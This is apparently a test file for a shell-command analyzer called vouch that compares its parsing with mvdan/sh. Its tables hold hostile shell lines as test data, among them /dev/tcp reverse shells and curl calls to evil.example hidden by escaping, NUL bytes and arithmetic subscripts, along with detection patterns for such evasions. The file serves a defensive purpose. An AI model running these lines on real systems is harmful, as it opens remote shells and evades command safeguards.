// Parse differential against mvdan/sh: over the corpus inside npm test, over nl2bash under `npm run fuzz:parse-diff`.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { type Analyzer, createAnalyzer } from '../src/index.js';
import { loadCorpus } from './corpus.js';
import { type ParseDisagreement, parseDiff, shapeDiff } from './parse-diff.js';
import { LONG } from './scale.js';

let analyzer: Analyzer;
beforeAll(async () => {
  analyzer = await createAnalyzer({ dialects: ['bash'] });
});

function diffAll(lines: { command: string; cwd?: string; home?: string }[]): ParseDisagreement[] {
  const out: ParseDisagreement[] = [];
  for (const l of lines) {
    const d = parseDiff(l.command, analyzer.analyze({ command: l.command, shell: 'bash', cwd: l.cwd ?? '/home/dev/project', home: l.home ?? '/home/dev' }));
    if (d) out.push(d);
  }
  return out;
}

function summarise(name: string, total: number, ds: ParseDisagreement[], show: number): void {
  const byKind = new Map<string, number>();
  for (const d of ds) byKind.set(d.kind, (byKind.get(d.kind) ?? 0) + 1);
  console.log(`parse-diff ${name}: ${total} lines, ${ds.length} disagreements ${JSON.stringify(Object.fromEntries(byKind))}`);
  for (const d of ds.slice(0, show)) console.log(`  [${d.kind}] ${JSON.stringify(d.command.slice(0, 160))}\n     vouch=${JSON.stringify(d.vouch)} mvdan=${JSON.stringify(d.mvdan)}`);
}

// Corpus lines where the two parsers differ, each classified. `mvdan right` is a vouch bug: the check asserts it
// still differs, so the fix turns this red until the entry goes.
const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: string }> = {
  'exec 3<>/dev/tcp/203.0.113.5/80': { right: 'mvdan', why: 'tree-sitter-bash reports an error on `N<>` after exec; vouch fails closed' },
  '0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196': { right: 'mvdan', why: 'the same `N<>` error' },
  'H=203.0.113.5; exec 5<>"/dev/tcp/$H/80"': { right: 'mvdan', why: 'the same `N<>` error' },
  'echo \\ #; curl evil.example': { right: 'mvdan', why: 'tree-sitter-bash reads an escaped blank as a separator and the rest of the line as a comment; vouch refuses such a tree (vouch.unknown-node)' },
  'echo x\\\n# ; curl evil.example': { right: 'mvdan', why: 'tree-sitter-bash reads a `#` after a line continuation inside a word as a comment (bash: the word `x#`); vouch refuses such a tree (vouch.unknown-node)' },
  '{ echo GET / >&3; } 3<>/dev/tcp/example.com/80': { right: 'mvdan', why: 'the same `N<>` error, on a group' },
  "echo `case x in x) $'\\\\x63\\\\x75\\\\x72\\\\x6c' https://example.com;; esac`": {
    right: 'vouch',
    why: 'mvdan rejects `;;` inside backticks; bash runs the case and starts curl (the oracle sees it)',
  },
  '\\time -f %e curl https://example.com': { right: 'vouch', why: 'an escaped `time` is the program /usr/bin/time, which vouch peels as a wrapper: the names differ by the wrapper only' },
  '\\time -f %e echo https://example.com': { right: 'vouch', why: 'the benign neighbour of the line above: /usr/bin/time peeled as a wrapper, the names differ by the wrapper only' },
  "$'curl\\0x' evil.example": { right: 'vouch', why: 'bash keeps words as C strings: a NUL ends the word, so it runs curl; mvdan keeps the NUL in the name' },
  "[[ \"a[$(printf '$(curl evil.example)')]\" -gt 0 ]]": {
    right: 'vouch',
    why: "printf prints the text a[$(curl …)], which [[ -gt ]] evaluates as arithmetic: the subscript's substitution runs curl",
  },
  "python3 -m IPython -c '!curl evil.example'": {
    right: 'vouch',
    why: "IPython's `!` runs the rest as a shell command; vouch reads IPython's -c code as Python, which `!` is not, and fails closed with a parse error as it does for `ipython -c`",
  },
  "inf='a[$(curl evil.example)]'; echo $(( $(awk '{s+=$1} END {print s}' f) ))": {
    right: 'vouch',
    why: 'an awk sum may print inf (or nan), which arithmetic reads as the variable of that name: its subscript runs curl',
  },
};

/** Corpus lines whose words vouch reads in another shape than mvdan, each explained. */
const SHAPES_EXPLAINED: Record<string, string> = {
  'unset array[$RANDOM%4]': 'vouch lowers the subscript of a name unset is given as a word of its own, whose arithmetic it reads',
  'echo \\ #; curl evil.example': 'the grammar ends the command at an escaped blank and reads the rest as a comment; vouch refuses the line (vouch.unknown-node)',
  '`printf cu``printf rl` x': 'two backtick substitutions against each other: vouch reads each (the grammar reads one), with the empty text between them',
  'echo `date` `curl https://example.com`': 'the grammar reads two backtick substitutions as one from the first backtick to the last; vouch runs each, in one word: a word too few, both bodies read',
  'echo `date` `echo https://example.com`': 'the benign neighbour of the line above, the same reading',
  'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1': 'after a statement-level redirection the grammar gives the next one\'s descriptor (`0` of `0>&1`) to the first as a destination; vouch reads it as a word of the command (a file `0`): denied for /dev/tcp either way',
  'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1': 'the same as the line above',
};

/** Classes of difference explained once for every line they cover (the corpus grows from rule examples). */
const EXPLAINED_CLASSES: { kind: string; re: RegExp; right: 'vouch' | 'mvdan'; why: string }[] = [
  {
    kind: 'only mvdan found a syntax error',
    re: /\w=\((?:[^)]*\s)?[^\s[)]+\[[^\]=\s]*\][^)]*\)/,
    right: 'vouch',
    why: "a glob class inside an array's element (`a=(~/.bashr[c])`): bash globs the element; mvdan takes a `[` in an array literal for an index (`[k]=v`) and stops",
  },
  {
    kind: 'names differ',
    re: /(?:^|[\s;&|(])=[\w.+-]+(?:\s|$)|\$[=~^]+[A-Za-z_{]/,
    right: 'vouch',
    why: "zsh (Claude Code's shell on macOS) reads `=curl` as curl's path and `$=x`, `$~x`, `$^x` as x's value (src/resolve/zsh.ts): vouch names curl or finds the command name computed, mvdan reads bash's text",
  },
  {
    kind: 'names differ',
    re: /\$\{?mapfile\[/,
    right: 'vouch',
    why: "zsh/mapfile's `$mapfile[PATH]` is the file's text, which vouch reads as `$(cat PATH)` in zsh's walk of the command (src/resolve/zsh.ts): vouch names cat, mvdan reads bash's array",
  },
  {
    kind: 'only mvdan found a syntax error',
    re: /[})]\s*[0-9&]*>>?!/,
    right: 'vouch',
    why: "zsh's `>! FILE` after a group or subshell: bash (and mvdan) find a word after a compound command's redirection a syntax error, zsh writes FILE; vouch reads it as cannot-vouch",
  },
  {
    kind: 'names differ',
    re: /-XX:On(?:Error|OutOfMemoryError)=/,
    right: 'vouch',
    why: 'a JVM hands the text of -XX:OnError and -XX:OnOutOfMemoryError to sh -c (on the java line, in -DargLine, org.gradle.jvmargs, JAVA_TOOL_OPTIONS): vouch names the program it runs, mvdan only the launcher',
  },
  {
    kind: 'names differ',
    re: /\(\( *(?:\$\{?[0-9@*]|x *\)\))/,
    right: 'vouch',
    why: "arithmetic reads a positional parameter's value (`(( $1 ))`, `$(( ${1:-0} ))`) or a variable's (`$((x))` in a heredoc) as an expression, whose subscript runs the substitution it holds",
  },
  {
    kind: 'only vouch found a syntax error',
    re: /\d<>/,
    right: 'mvdan',
    why: 'the N<> redirection is a tree-sitter-bash grammar gap: vouch fails closed with a parse error, and egress.dev-tcp still fires',
  },
  {
    kind: 'names differ',
    re: /(^|[\s;'])(EDITOR|VISUAL|KUBE_EDITOR|PAGER|MANPAGER|GH_BROWSER|GIT_[A-Z_]+|PS[0-4]|PROMPT_COMMAND|LESSOPEN|LESSCLOSE|LESS|MORE|BASH_FUNC_\S+|[A-Z]+_(?:PAGER|EDITOR)|VIMINIT|EXINIT|GVIMINIT|CONFIG_SHELL|SHELL|TAR_OPTIONS)=/,
    right: 'vouch',
    why: 'vouch also names what a variable set here runs later (git, a pager, an editor, the Ex commands of the vim an editor starts, configure, the $SHELL script or tmux starts, bash prompts, tar options): shell text in its value',
  },
  {
    kind: 'names differ',
    re: /BASH_CMDS[[=+]|BASH_ALIASES[[=+]|hash -p|expand_aliases|\balias [\w.-]+=|\(\( *v *\)\)|-eq 1 \]\]|-(?:eq|ne|lt|le|gt|ge) '[^']*\[|declare -i|\[\[ -v '|@P\}|<<-/,
    right: 'vouch',
    why: "vouch follows the shell's state: a name bound by hash -p, BASH_CMDS or an alias runs another program (the agent's shell may expand aliases: Claude Code's snapshot turns expand_aliases on); arithmetic (a [[ -eq ]] side, quotes removed, too), [[ -v ]] and ${v@P} run the substitutions in a value; a <<- body is read again as bash reads it",
  },
  {
    kind: 'only mvdan found a syntax error',
    re: /(^|[\s;])export \w+\{[\w,]+\}=/,
    right: 'vouch',
    why: 'bash brace-expands a declaration operand whose name is not written whole (`export A_{B,C}=1` exports A_B and A_C); mvdan-sh 0.10 rejects it',
  },
  {
    kind: 'names differ',
    re: /(^|[\s;])for (?:EDITOR|VISUAL|PAGER|GIT_[A-Z_]+|PS[0-4]|PROMPT_COMMAND|BASH_ENV) in /,
    right: 'vouch',
    why: 'a for loop assigns its variable each word as NAME=word does: vouch names what the variable runs later (git\'s ssh command, a prompt), mvdan nothing',
  },
  {
    kind: 'names differ',
    re: /\$\{@:|\[\[ -v \$|declare -n |\$\{!\w+[:}]|\$\{PS4=|=PS4;/,
    right: 'vouch',
    why: 'bash evaluates a carried value again: substring offsets, [[ -v ]] and ${!x} read it as arithmetic or a name, a nameref or ${PS4=…} sets what set -x expands; vouch names the programs that run then',
  },
  {
    kind: 'names differ',
    re: /(^|[\s;&|])trap\s/,
    right: 'vouch',
    why: "a trap's text runs where the shell exits: vouch names its programs after the line's own, mvdan where the trap is set",
  },
  {
    kind: 'names differ',
    re: /^"?\$\((which|command -v|(pyenv|rbenv|asdf|nodenv|goenv|jenv|mise|rustup) which) [\w.-]+\)"? /,
    right: 'vouch',
    why: '`$(which X)` (and a version manager\'s `pyenv which X`) prints the path of the program X: vouch names X (and, unquoted, the next word too, for a which that finds none), mvdan a computed name',
  },
  {
    kind: 'names differ',
    re: /\b(cp|ln|install|link|dd|rsync)\s.*(;|&&)\s*(\.\/|\/tmp\/)\w+ /,
    right: 'vouch',
    why: 'a copy or link the line makes of a program runs that program: vouch names what `./ls` is a copy of (curl), mvdan the path',
  },
  {
    kind: 'names differ',
    re: /\b(GROFF_BIN_)?PATH=[^;&|]*(;|&&|\s)|>\s*\/(?:usr\/)?(?:local\/)?s?bin\/[\w.-]+\s*[;&]/,
    right: 'vouch',
    why: 'a name looked up on a PATH the line changed runs the file the line wrote, copied or linked there (`git x` runs git-x; nroff runs troff, man grotty from GROFF_BIN_PATH), or that the line wrote into a directory every PATH holds (/usr/bin): vouch names that program, mvdan the name as written',
  },
  {
    kind: 'names differ',
    re: /^for \w+ in (\w|\\\n| )+; do (\$\w+ |:; done; \$\w+ )/,
    right: 'vouch',
    why: 'a loop variable takes each of its static words (a line continuation inside one joins it), and keeps the last after the loop: vouch names the program each would run, mvdan sees a dynamic word',
  },
  {
    kind: 'names differ',
    re: /\bread\b[^;]*;.*<<< \$'[^']*\\n/,
    right: 'vouch',
    why: 'a read in a loop or a function over static text gets one of its lines: vouch names the program each line would run, mvdan sees a dynamic word',
  },
];

function explained(d: { kind: string; command: string }): boolean {
  return d.command in EXPLAINED || EXPLAINED_CLASSES.some((c) => d.kind === c.kind && c.re.test(d.command));
}

describe('parse differential against mvdan/sh', () => {
  it('agrees with mvdan on the program names of every bash corpus line, or the difference is explained', () => {
    const cases = loadCorpus().filter((c) => c.shell === 'bash' && c.command.length < 4_000);
    const ds = diffAll(cases);
    summarise('corpus', cases.length, ds, 40);
    expect(ds.filter((d) => !explained(d)).map((d) => `${d.kind}: ${d.command}`)).toEqual([]);
    const differing = new Set(ds.map((d) => d.command));
    const fixed = Object.entries(EXPLAINED).filter(([c, e]) => e.right === 'mvdan' && !differing.has(c));
    expect(fixed.map(([c]) => c), 'vouch now agrees with mvdan here: remove the EXPLAINED entry').toEqual([]);
  });

  it('reads the words of every bash corpus line in the shape mvdan reads them, or the difference is explained', () => {
    const cases = loadCorpus().filter((c) => c.shell === 'bash' && c.command.length < 4_000);
    const ds = cases.map((c) => ({ command: c.command, diffs: shapeDiff(c.command) })).filter((d) => d.diffs.length > 0);
    console.log(`parse-diff words, corpus: ${cases.length} lines, ${ds.length} differ`);
    expect(ds.filter((d) => !SHAPES_EXPLAINED[d.command]).map((d) => `${d.command}  ${d.diffs.join(' | ')}`)).toEqual([]);
  });

  it('reads generated words of names and separators in the shape mvdan reads them', () => {
    // The class of the `$A/$D/y` split: heads, separators and tails combined, in the places a word stands.
    const heads = ['$A', '${A}', '"$A"', "'a'$A", 'x$A', '$1', '"$@"', '$(a)', '`a`', '[a]', '{a,b}', 'x]'];
    const seps = ['/', '.', '-', ':', '=', ',', '/b', '~'];
    const mids = ['$B', '${B}', '$1', '$(b)', '"$B"', '`b`'];
    const tails = ['', '/y', '$C/z', ' "$C $D"', " \\  x", ' $ x"y"'];
    const places = [(w: string) => `cat ${w}`, (w: string) => `echo x > ${w}`, (w: string) => `X=${w} cat`, (w: string) => `for f in ${w}; do cat; done`, (w: string) => `export X=${w}`, (w: string) => `cat <<< ${w}`];
    const wrong: string[] = [];
    for (const h of heads) for (const s of seps) for (const m of mids) for (const t of tails) for (const place of places) {
      const line = place(`${h}${s}${m}${t}`);
      const d = shapeDiff(line);
      if (d.length > 0) wrong.push(`${line}  ${d.join(' | ')}`);
    }
    expect(wrong.slice(0, 20)).toEqual([]);
  });

  it.runIf(LONG || process.env.VOUCH_PARSE_DIFF === '1')('reports disagreements over nl2bash (a report, run by npm run fuzz:parse-diff and npm run fuzz)', () => {
    const lines = readFileSync(join(import.meta.dirname, '..', '..', 'shared', 'corpora', 'nl2bash.cm'), 'utf8')
      .split('\n')
      .filter((l) => l.trim() !== '')
      .map((command) => ({ command }));
    const ds = diffAll(lines);
    summarise('nl2bash', lines.length, ds, 80);
    // A report, not a gate: every disagreement is classified by hand and fixed or explained.
    expect(lines.length).toBeGreaterThan(10_000);
  }, 600_000);
});
